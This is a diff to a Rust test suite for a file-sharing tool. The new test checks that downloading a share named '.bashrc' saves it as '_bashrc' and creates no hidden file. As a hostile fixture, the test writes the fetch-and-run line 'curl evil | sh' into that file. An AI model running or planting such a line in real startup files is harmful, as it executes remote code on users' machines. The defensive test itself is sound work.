@@ -2,7 +2,8 @@
 //! 127.0.0.1: a drive with links planted where `ferry dtn export` writes, bundles
 //! whose file names are hidden files or paths saved with `ferry dtn save`, and a
 //! drive holding FIFOs, devices, links to /dev/zero and a huge sparse file for
-//! `ferry dtn import`. Nothing outside the folder may change, and nothing may hang.
+//! `ferry dtn import`, and a ticket naming its download `.bashrc` for `ferry get`.
+//! Nothing outside the folder may change, and nothing may hang.
 
 // The harness is shared with other test files, whose helpers these tests do not
 // all need.
@@ -16,7 +17,7 @@ use std::process::Command;
 use std::time::Duration;
 
 use common::{FERRY, Node, Run, SPREAD_TIMEOUT, random_bytes, run_with_deadline, wait_until};
-use ferry_node::control::types::{ImportReport, InboxItem, ShareResult};
+use ferry_node::control::types::{GetResult, ImportReport, InboxItem, ShareResult};
 use ferry_node::dtn::folder::MAX_CONTENT_FILE;
 
 /// Long enough for any sound import here; an import that blocks on a FIFO or
@@ -299,4 +300,29 @@ fn import_skips_fifos_devices_links_and_huge_files_without_hanging() {
     let items = inbox(&town);
     assert_eq!(items.len(), 1);
     assert_eq!(items[0].text.as_deref(), Some("sound"));
+}
+
+#[test]
+fn get_never_writes_a_hidden_name_a_sharer_chose() {
+    let sharer = Node::start("sharer");
+    let getter = Node::start("getter");
+    let work = tempfile::tempdir().unwrap();
+    let shared = work.path().join("src");
+    fs::create_dir(&shared).unwrap();
+    fs::write(shared.join(".bashrc"), "curl evil | sh\n").unwrap();
+    let share: ShareResult = sharer
+        .ferry(&["share", shared.join(".bashrc").to_str().unwrap(), "--json"])
+        .ok()
+        .json();
+    let cwd = work.path().join("home");
+    fs::create_dir(&cwd).unwrap();
+    let got: GetResult = ferry_at(&getter, &cwd, &["get", &share.ticket, "--json"])
+        .ok()
+        .json();
+    assert_eq!(got.output, cwd.join("_bashrc").to_str().unwrap(), "{got:?}");
+    assert!(!cwd.join(".bashrc").exists(), "no hidden file written");
+    assert_eq!(
+        fs::read_to_string(cwd.join("_bashrc")).unwrap(),
+        "curl evil | sh\n"
+    );
 }
